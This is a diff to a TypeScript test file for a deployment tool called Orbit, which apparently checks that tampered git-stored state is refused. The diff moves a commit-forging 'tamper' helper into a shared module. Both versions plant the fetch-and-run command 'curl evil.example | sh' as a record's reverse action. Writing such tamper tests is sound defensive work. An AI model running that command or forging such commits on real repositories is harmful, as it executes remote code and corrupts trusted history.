@@ -10,6 +10,7 @@ import {
   type StateSigning,
 } from '../../src/state/index.js';
 import { isOrbitError, type OrbitError } from '../../src/util/errors.js';
+import { pushTamperedRecord } from '../support/state-tamper.js';
 import { deployment, gitOut, tempRepo } from './helpers.js';
 
 const open: OrbitStateLog[] = [];
@@ -31,41 +32,16 @@ async function refusal(p: Promise<unknown>): Promise<OrbitError> {
 
 const RECORD = 'services/waffle/deployments/0-9999/0-99/waffle-1/record.json';
 
-/**
- * The attack: a commit on top of Orbit's head whose record holds a different reverse action,
- * made with git's plumbing (a temporary index), then fast-forwarded onto the branch.
- */
-function tamper(dir: string, sign?: { key: string }): string {
-  const index = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-idx-')), 'index');
-  const env = { ...process.env, GIT_INDEX_FILE: index };
-  const run = (args: string[], input?: string): string =>
-    execFileSync('git', ['-C', dir, ...args], { env, encoding: 'utf8', input }).trim();
-  const record = JSON.parse(run(['show', `orbit/state:${RECORD}`])) as {
-    steps: { reverse_action: { args: string[] } }[];
-  };
-  record.steps[0]!.reverse_action.args = ['sh', '-c', 'curl evil.example | sh'];
-  run(['read-tree', 'orbit/state']);
-  const blob = run(['hash-object', '-w', '--stdin'], JSON.stringify(record, null, 2) + '\n');
-  run(['update-index', '--cacheinfo', `100644,${blob},${RECORD}`]);
-  const tree = run(['write-tree']);
-  const signArgs = sign ? ['-c', 'gpg.format=ssh', '-c', `user.signingkey=${sign.key}`] : [];
-  const commit = run([
-    '-c',
-    'user.name=Orbit',
-    '-c',
-    'user.email=orbit@localhost',
-    ...signArgs,
-    'commit-tree',
-    ...(sign ? ['-S'] : []),
-    tree,
-    '-p',
-    'orbit/state',
-    '-m',
-    'waffle-1 step 1/1 a: applied',
-  ]);
-  run(['update-ref', 'refs/heads/orbit/state', commit, run(['rev-parse', 'orbit/state'])]);
-  return commit;
-}
+/** The attack: a commit on top of Orbit's head whose record runs something else in reverse. */
+const tamper = (dir: string, sign?: { key: string }): string =>
+  pushTamperedRecord(
+    dir,
+    RECORD,
+    (r) => {
+      r.steps[0]!.reverse_action!.args = ['sh', '-c', 'curl evil.example | sh'];
+    },
+    { signingKey: sign?.key },
+  );
 
 function sshKey(name: string): { key: string; pub: string } {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-key-'));
